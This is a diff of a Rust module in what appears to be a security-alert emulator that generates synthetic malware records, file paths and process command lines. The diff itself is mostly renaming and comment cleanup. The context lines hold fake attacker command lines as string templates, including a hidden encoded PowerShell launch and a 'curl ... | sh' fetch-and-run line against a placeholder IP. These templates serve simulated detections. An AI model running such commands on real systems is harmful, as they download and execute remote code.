@@ -1,6 +1,7 @@
-//! Files, processes and rules that threats, alerts and activities are about.
+//! Files, processes and rules of threats, alerts and activities.
 
-use super::{Random, World};
+use super::organization::Organization;
+use crate::emulator::random::Random;
 
 /// Name, classification, confidence, extension type.
 pub(super) const MALWARE: &[(&str, &str, &str, &str)] = &[
@@ -14,11 +15,11 @@ pub(super) const MALWARE: &[(&str, &str, &str, &str)] = &[
     ("miner", "Cryptominer", "malicious", "Unknown"),
 ];
 
-/// Where files lie, by family of operating system.
+/// A file path for a family of operating systems.
 pub(super) fn path(random: &mut Random, os: &str, user: &str, name: &str) -> String {
     match os {
         "windows" | "windows_legacy" => {
-            let folder = random.pick(&["Downloads", "Desktop", "AppData\\Local\\Temp"]);
+            let folder = random.choose(&["Downloads", "Desktop", "AppData\\Local\\Temp"]);
             format!("\\Device\\HarddiskVolume3\\Users\\{user}\\{folder}\\{name}")
         }
         "macos" => format!("/Users/{user}/Downloads/{name}"),
@@ -26,10 +27,10 @@ pub(super) fn path(random: &mut Random, os: &str, user: &str, name: &str) -> Str
     }
 }
 
-/// What a malicious process was started with.
+/// The command line of a malicious process.
 pub(super) fn arguments(random: &mut Random) -> String {
     let token = random.hex(24);
-    (*random.pick(&[
+    (*random.choose(&[
         format!("powershell.exe -nop -w hidden -enc {token}"),
         format!("\"C:\\Windows\\System32\\cmd.exe\" /c start /b rundll32 shell.dll,Run {token}"),
         format!("/bin/sh -c 'curl -s http://192.0.2.77/{token} | sh'"),
@@ -47,11 +48,11 @@ pub(super) const RULES: &[(&str, &str, &str)] = &[
 ];
 
 /// The id of a rule of `RULES`.
-pub(super) fn rule_id(place: usize) -> String {
-    (1_411_223_344_556_677_001_u64 + place as u64).to_string()
+pub(super) fn rule_id(index: usize) -> String {
+    (1_411_223_344_556_677_001_u64 + index as u64).to_string()
 }
 
-/// A place in the world's list of agents.
-pub(super) fn agent(random: &mut Random, world: &World) -> usize {
-    random.below(world.agents.len() as u64) as usize
+/// A random index of [`Organization::agents`].
+pub(super) fn agent_index(random: &mut Random, org: &Organization) -> usize {
+    random.below(org.agents.len() as u64) as usize
 }
